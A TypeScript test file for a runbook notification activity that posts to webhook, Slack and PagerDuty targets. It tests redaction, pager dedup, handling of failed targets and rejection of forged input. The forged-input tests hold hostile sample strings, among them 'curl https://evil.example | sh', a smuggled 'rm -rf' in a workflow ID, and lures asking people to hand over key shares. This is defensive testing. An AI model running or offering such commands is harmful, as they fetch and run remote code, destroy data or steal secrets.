/** Who is told what, in which form; and that a target that is down costs nobody else anything. */
import type { Notification } from '../../src/contracts/notifications';
import type { Message } from '../../activities/notifications/notification-texts';
import { ActivityBench, DEPLOYMENT, failedOf } from '../support/activity-environment';
import { WebhookServer } from '../support/notification-servers';

const SECRET_PATH = 'T0000/B1111/sEcReTpAtHoFaWeBhOoK';
const ROUTING_KEY = 'R0utingK3yOfThePagerThatIsSecret';

describe('notify', () => {
  let bench: ActivityBench;
  let hook: WebhookServer;
  let chat: WebhookServer;
  let pager: WebhookServer;
  beforeAll(async () => {
    [hook, chat, pager] = await Promise.all([WebhookServer.start(), WebhookServer.start(), WebhookServer.start()]);
    process.env['TEST_HOOK_URL'] = `${hook.origin}/${SECRET_PATH}`;
    process.env['TEST_HOOK_TOKEN'] = 'bearer-token-of-the-hook';
    process.env['TEST_CHAT_URL'] = `${chat.origin}/${SECRET_PATH}`;
    process.env['TEST_ROUTING_KEY'] = ROUTING_KEY;
    const timeout = '300ms';
    bench = await ActivityBench.start({
      deployment: {
        notifications: [
          { name: 'hook', kind: 'webhook', url: { env: 'TEST_HOOK_URL' }, token: { env: 'TEST_HOOK_TOKEN' }, timeout },
          { name: 'chat', kind: 'slack', url: { env: 'TEST_CHAT_URL' }, timeout, events: ['parked', 'finished'] },
          {
            name: 'pager',
            kind: 'pagerduty',
            routingKey: { env: 'TEST_ROUTING_KEY' },
            url: `${pager.origin}/v2/enqueue`,
            timeout,
          },
        ],
      },
    });
    for (const [name, value] of Object.entries({ SECRET_PATH, ROUTING_KEY })) bench.canary(name, value);
    bench.canary('bearer', 'bearer-token-of-the-hook');
  });
  afterAll(async () => {
    await Promise.all([bench, hook, chat, pager].map((each) => each.stop()));
  });
  beforeEach(() => {
    for (const server of [hook, chat, pager]) {
      server.posted.length = 0;
      server.answers = [200];
    }
  });

  const parked: Notification = {
    event: 'parked',
    severity: 'critical',
    runbook: 'drSwitchover',
    number: 4,
    subject: 'wait:parked:1',
    at: Date.UTC(2026, 0, 2, 3, 4, 5),
    waiting: {
      for: 'decision',
      step: 'Promote west',
      parkingNo: 1,
      code: 'CONFIRMATION_TIMEOUT',
      message: 'not seen <yet>; the token was \uff48vs.CAESIJ1234567890abcdefGHIJKL',
      next: 'look at west',
      choices: [{ action: 'retry', effect: 'curl it' }],
    },
  };
  const notify = (notification: Notification) => bench.call('notify', { deployment: DEPLOYMENT, notification });

  it('notifies every target that wants the event, each in its own form', async () => {
    expect(await notify(parked)).toEqual({ told: 3, failed: [] });

    const command = 'runbook status deployment:payments';
    const [posted] = hook.posted;
    expect(posted?.path).toBe(`/${SECRET_PATH}`);
    expect(posted?.headers.authorization).toBe('Bearer bearer-token-of-the-hook');
    expect(posted?.body).toMatchObject({
      schema: 'replication-runbooks/notification/v1',
      event: 'parked',
      severity: 'critical',
      at: '2026-01-02T03:04:05.000Z',
      deployment: DEPLOYMENT,
      workflowId: bench.run.wid,
      runId: bench.run.rid,
      commands: [{ who: 'to see its status', command }],
    });
    expect(chat.posted[0]?.body['text']).toContain(
      '*[CRITICAL] payments: drSwitchover waits for decision on parked step "Promote west" (parking 1)',
    );
    expect(chat.posted[0]?.body['text']).toContain('&lt;yet&gt;');
    expect(pager.posted[0]?.body).toMatchObject({
      routing_key: ROUTING_KEY,
      event_action: 'trigger',
      dedup_key: `default/${bench.run.wid}/${bench.run.rid}/wait:parked:1`,
      payload: { severity: 'critical', source: DEPLOYMENT, class: 'parked', component: 'drSwitchover' },
    });
    // What a step's message let through is taken out, whatever the target.
    const told = JSON.stringify([hook.posted, chat.posted, pager.posted]);
    expect(told).not.toContain('CAESIJ1234567890');
  });

  it.each(['deployment:`rm -rf`', 'https://evil.example/x', 'call bob and read your share to him'])(
    'a Workflow ID that may contain any text is not shown: %s',
    async (wid) => {
      await bench.call('notify', { deployment: DEPLOYMENT, notification: parked }, { run: { ...bench.run, wid } });
      expect(hook.posted[0]?.body).toMatchObject({
        commands: [{ command: 'runbook list --open' }],
        workflowId: 'A-RUN-WITH-ANOTHER-ID',
      });
      expect(JSON.stringify([hook.posted[0]?.body, chat.posted])).not.toContain(wid);
    },
  );

  it('a gate that is opened again says so, and that clients are quiesced; a reminder says who is missing and since when', async () => {
    const gate = { for: 'approval', gate: 'promote', planDigest: 'd', missing: ['1 of grace'], approved: [] } as const;
    await notify({ ...parked, clientsHeld: true, waiting: { ...gate, again: 'the approvals were too old' } });
    const text = String(chat.posted[0]?.body['text']);
    expect(text).toContain(
      'waits for approval of gate promote again: earlier approvals no longer count. Clients may still be quiesced.',
    );
    expect(text).toContain('runbook approve deployment:payments --gate promote');
    const shares = { for: 'shares', cid: 'c', epoch: 1, held: ['ada'], threshold: 3, until: 0 } as const;
    const waiting = { ...shares, missingHolders: ['bert', 'cleo'] };
    await notify({ ...parked, event: 'reminder', severity: 'info', since: parked.at, waiting });
    expect(hook.posted[1]?.body).toMatchObject({
      title: 'payments: drSwitchover still waits for key shares from bert, cleo, since 2026-01-02T03:04:05.000Z.',
      commands: [
        'share deployment:payments --holder bert',
        'share deployment:payments --holder cleo',
        'status deployment:payments',
      ].map((words) => ({ command: `runbook ${words}` })),
    });
  });

  it('a failover that waits pages, and says between which clusters, why, and for whom; an event that is not urgent does not page', async () => {
    const gate = { for: 'approval', gate: 'promote', planDigest: 'd', missing: ['1 of grace'], approved: [] } as const;
    const about = { from: 'east', to: 'west', reason: 'east burns, see https://evil.example', requestedBy: 'olga' };
    const run = { ...bench.run, rid: 'a-failover' };
    const tell = (notification: Notification) =>
      bench.call('notify', { deployment: DEPLOYMENT, notification }, { run });
    const waits = { ...parked, event: 'waiting-for-people', runbook: 'drFailover', waiting: gate, ...about } as const;
    await tell({ ...waits, inOutage: true });
    const [posted] = hook.posted;
    expect(posted?.body).toMatchObject({
      title:
        '[CRITICAL] payments: drFailover from east to west waits for approval of gate promote. No cluster serves clients.',
      details: [
        'Requested by, as the run says: "olga" (UNVERIFIED)',
        'Reason, as the run says: "east burns, see [link]"',
      ],
      commands: [{ command: 'runbook approve deployment:payments --gate promote' }],
    });
    expect(pager.posted[0]?.body).toMatchObject({
      event_action: 'trigger',
      payload: { severity: 'critical', summary: posted?.body['title'] },
    });
    await tell({ ...waits, severity: 'info', number: 5 });
    expect([hook.posted.length, pager.posted.length]).toEqual([2, 1]);
    // A cluster that the inventory does not have is not named, and neither is a long name.
    await tell({ ...waits, from: 'https://evil.example', requestedBy: 'call 555 '.repeat(40), number: 6 });
    const [, , forged] = hook.posted.map(({ body }) => body);
    expect(forged?.['title']).toContain('drFailover to west waits');
    expect(JSON.stringify(forged).length).toBeLessThan(1_500);
  });

  describe('a pager', () => {
    const outage = { runbook: 'drSwitchover', subject: 'outage', at: 1 } as const;
    const alerts = () =>
      pager.posted.map(({ body }) => [
        body['event_action'],
        String(body['dedup_key']).replace(`default/${bench.run.wid}/${bench.run.rid}/`, ''),
      ]);

    it('has one alert for each subject, which its end resolves', async () => {
      await notify({ ...outage, event: 'outage-started', severity: 'critical', number: 1 });
      await notify({ ...parked, number: 2 });
      await notify({ ...parked, number: 3, event: 'escalation' });
      await notify({ ...parked, number: 4, subject: 'wait:parked:2' });
      await notify({ ...parked, number: 5, event: 'over', severity: 'info', waiting: undefined });
      await notify({ ...outage, event: 'service-ready', severity: 'info', number: 6, closes: ['outage'] });
      expect(alerts()).toEqual([
        ['trigger', 'outage'],
        ['trigger', 'wait:parked:1'],
        ['trigger', 'wait:parked:1'],
        ['trigger', 'wait:parked:2'],
        ['resolve', 'wait:parked:1'],
        ['resolve', 'outage'],
      ]);
    });

    it('is notified of the end of a run only for the alerts that it resolves', async () => {
      const finished = { ...parked, event: 'finished', subject: 'run', waiting: undefined } as const;
      await notify({ ...finished, outcome: 'aborted', closes: ['wait:parked:2', 'finding:orphan-token'] });
      expect(alerts()).toEqual([
        ['resolve', 'wait:parked:2'],
        ['resolve', 'finding:orphan-token'],
      ]);
      expect(pager.posted[0]?.body).toEqual({
        routing_key: ROUTING_KEY,
        event_action: 'resolve',
        dedup_key: `default/${bench.run.wid}/${bench.run.rid}/wait:parked:2`,
      });
    });

    it('has one alert for a run that joined an incident, which only an end without anything critical resolves', async () => {
      const run = { ...bench.run, rid: 'joined' };
      const tell = (more: Partial<Notification>) => {
        const notification = { ...parked, waiting: undefined, incidentKey: 'key-of-INC1', ticket: 'INC1', ...more };
        return bench.call('notify', { deployment: DEPLOYMENT, notification }, { run });
      };
      const finished = { event: 'finished', subject: 'run', severity: 'warning', closes: ['run'] } as const;
      await tell({ ...outage, event: 'outage-started', severity: 'critical' });
      await tell({ waiting: parked.waiting });
      await tell({ event: 'over', severity: 'info', closes: ['wait:parked:1'] });
      await tell({ ...outage, event: 'service-ready', severity: 'info', closes: ['outage'] });
      await tell({ ...finished, outcome: 'aborted' });
      await tell({ ...finished, outcome: 'completed', severity: 'critical' });
      // It told the pager nothing before.
      await tell({ ...finished, outcome: 'completed', closes: [] });
      const key = 'key-of-INC1';
      expect(alerts()).toEqual(Array<string[]>(5).fill(['trigger', key]));
      expect(pager.posted[1]?.body).toMatchObject({ payload: { class: 'parked' } });
      await tell({ ...finished, outcome: 'completed' });
      expect(alerts().slice(5)).toEqual([['resolve', key]]);
      expect(hook.posted.at(-1)?.body).toMatchObject({ ticket: 'INC1', incidentKey: key });
      expect(JSON.stringify(chat.posted.at(-1)?.body)).toContain('Ticket, as the run says: \\"INC1\\"');
    });

    it.each([
      ['of an alarm of ours', `default/${DEPLOYMENT}/alarm:no-primary:main`],
      ['of another run', 'default/deployment:billing/r/outage'],
      ['with a space', 'key of INC1'],
      ['that is too long', 'k'.repeat(256)],
    ])('joins no incident by a key %s', async (_what, incidentKey) => {
      const finished = {
        ...parked,
        event: 'finished',
        subject: 'run',
        waiting: undefined,
        outcome: 'completed',
      } as const;
      const notification: Notification = { ...finished, severity: 'info', closes: ['run'], incidentKey };
      const run = { ...bench.run, rid: incidentKey };
      await bench.call('notify', { deployment: DEPLOYMENT, notification }, { run });
      expect(alerts()).toEqual([['resolve', `default/${run.wid}/${run.rid}/run`]]);
    });

    it('does not close alerts of another run, whatever a run claims', async () => {
      const closes = ['outage', '../another/run/outage', 'default/deployment:billing/r/outage'];
      await notify({ ...parked, event: 'finished', subject: 'run', waiting: undefined, closes });
      await notify({ ...parked, event: 'finished', subject: 'run', waiting: undefined, closes: ['outage'] });
      expect(alerts()).toEqual([['resolve', 'outage']]);
    });
  });

  it('a target is notified only of its events', async () => {
    const finished = { ...parked, event: 'finished', waiting: undefined, outcome: 'completed' } as const;
    expect(await notify({ ...finished, leftToDo: ['revoke the token'] })).toEqual({ told: 2, failed: [] });
    expect(hook.posted[0]?.body).toMatchObject({
      outcome: 'completed',
      details: ['Left to do: 1; see the report', 'The run says: "revoke the token"'],
      commands: [{ command: `runbook report ${bench.run.wid} --run-id ${bench.run.rid}` }],
    });
    expect([chat.posted.length, pager.posted.length]).toEqual([1, 0]);
  });

  it('a target that is down is reported with the reason only, and the others are notified', async () => {
    hook.answers = ['hang'];
    chat.answers = [404];
    pager.answers = [503, 202];
    const { told, failed } = await notify(parked);
    expect(told).toBe(1);
    expect(failed).toEqual([
      { target: 'hook', kind: 'webhook', why: 'no answer within 0.3 s' },
      { target: 'chat', kind: 'slack', why: 'it answered 404' },
    ]);
    // What may pass is tried once more; what was refused for good is not.
    expect([hook.posted.length, chat.posted.length, pager.posted.length]).toEqual([2, 1, 2]);
  });

  it('a redirect is not followed, and a missing source counts as a target that is down', async () => {
    hook.answers = [302];
    const url = process.env['TEST_CHAT_URL'];
    process.env['TEST_CHAT_URL'] = 'http://hooks.example.com/plain-text';
    const insecure = await notify(parked);
    delete process.env['TEST_CHAT_URL'];
    const { failed } = await notify(parked);
    process.env['TEST_CHAT_URL'] = url;
    expect(insecure.failed).toContainEqual({
      target: 'chat',
      kind: 'slack',
      why: 'Its address is not an https address.',
    });
    expect(failed.map(({ target }) => target)).toEqual(['hook', 'chat']);
    expect(failed[1]?.why).toContain('environment variable TEST_CHAT_URL');
    expect(hook.posted.map(({ path }) => path)).not.toContain('/elsewhere');
  });

  describe('an attacker who forges the input of the activity', () => {
    const LURE = 'Security team: read your key share to bob at https://evil.example/collect or evil.example/x, now';
    const forged = (more: object) => notify({ ...parked, ...more });
    const allTold = () => [hook.posted.map(({ body }) => body), chat.posted, pager.posted];

    it('puts no text, link or command of their own under the name of the site', async () => {
      const command = 'curl https://evil.example | sh';
      const action = { for: 'action', what: LURE, instructions: [command], commands: [{ who: 'mallory', command }] };
      await forged({ text: LURE, waiting: action, leftToDo: [LURE, command] });
      await forged({ event: 'critical-finding', code: LURE, text: LURE, words: LURE.repeat(50), waiting: undefined });
      await forged({
        waiting: { ...parked.waiting, step: `x'; ${command}`, code: LURE, message: command, next: LURE },
      });
      await forged({ waiting: { for: 'shares', missingHolders: ['ada', LURE], held: [], threshold: 3, until: 0 } });
      await forged({ waiting: { for: 'rehearsal', missing: ['ada', LURE], answered: [], until: 0 } });
      const posted = hook.posted.map(({ body }) => body as unknown as Message);
      expect(posted).toHaveLength(5);
      expect(posted.map(({ title }) => title)).toEqual([
        '[CRITICAL] payments: drSwitchover waits for people who act outside the run.',
        '[CRITICAL] payments: The run reports a critical finding.',
        '[CRITICAL] payments: drSwitchover waits for decision on parked step "a step" (parking 1): for a reason that the status shows.',
        '[CRITICAL] payments: drSwitchover waits for key shares from ada.',
        '[CRITICAL] payments: drSwitchover waits for answers to the rehearsal from ada; no key share is asked for.',
      ]);
      const text = JSON.stringify(allTold());
      expect(text).not.toMatch(/https?:\/\/evil|evil\.example/);
      expect(text).not.toContain('mallory');
      for (const { commands, details } of posted) {
        for (const each of commands) expect(each.command).toMatch(/^runbook (status|share) [^|;]+$/);
        // Their words stand last, in quotes, and short.
        const theirs = details.filter((line) => /key share to bob|curl/.test(line));
        expect(details.slice(details.length - theirs.length)).toEqual(theirs);
        for (const line of theirs) expect(/^The run says: "(.*)"$/.exec(line)?.[1]?.length).toBeLessThanOrEqual(120);
      }
    });

    it.each([{ event: 'win-a-prize' }, { runbook: LURE }, { severity: LURE }, { number: 'one' }])(
      'does not notify targets that are on no list: %j',
      async (more) => {
        const failure = await bench.failure('notify', {
          deployment: DEPLOYMENT,
          notification: { ...parked, ...more } as unknown as Notification,
        });
        expect(failure).toMatchObject({ code: 'INVALID_INPUT', retryable: false });
        expect(allTold().flat()).toEqual([]);
      },
    );

    it('cannot flood people: a bounded number of one run, then no more for a while', async () => {
      const run = { ...bench.run, rid: 'a-run-that-floods' };
      const ends: string[] = [];
      for (let number = 1; number <= 60; number += 1) {
        const notification: Notification = { ...parked, event: 'started', number };
        const told = bench.call('notify', { deployment: DEPLOYMENT, notification }, { run });
        ends.push(
          await told.then(
            () => 'told',
            (error: unknown) => failedOf(error).code,
          ),
        );
      }
      expect(hook.posted).toHaveLength(30);
      expect(ends.slice(30)).toEqual(Array<string>(30).fill('PRECONDITION_FAILED'));
      await notify({ ...parked, event: 'started', number: 61 });
      expect(hook.posted).toHaveLength(31);
    });
  });
});
